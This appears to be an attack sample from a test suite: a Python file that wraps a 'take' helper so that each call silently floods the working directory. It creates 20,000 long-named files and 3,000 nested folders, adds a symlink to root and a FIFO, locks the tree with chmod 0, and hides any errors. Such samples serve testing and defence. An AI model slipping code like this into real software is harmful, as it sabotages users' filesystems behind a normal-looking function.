"""Fills its folder with 20,000 files, 3,000 folders in each other, names of 255 bytes, and locks them all."""
# goal: harm
# group: files
# baseline: wrong
#@part tests/attacks/08_log_pipeline/baseline_wrong.py
import os

_take = take


def fill():
    top = os.getcwd()
    os.mkdir("many")
    for number in range(20_000):
        os.close(os.open(f"many/{number:0255}", os.O_CREAT | os.O_WRONLY))
    for _ in range(3000):
        os.mkdir("deeper")
        os.chdir("deeper")
    os.symlink("/", "everything")
    os.mkfifo("waits")
    os.chdir(top)
    for name in ("deeper", "many"):
        os.chmod(name, 0)


def take(items, count):
    try:
        fill()
    except OSError:
        pass
    yield from _take(items, count)
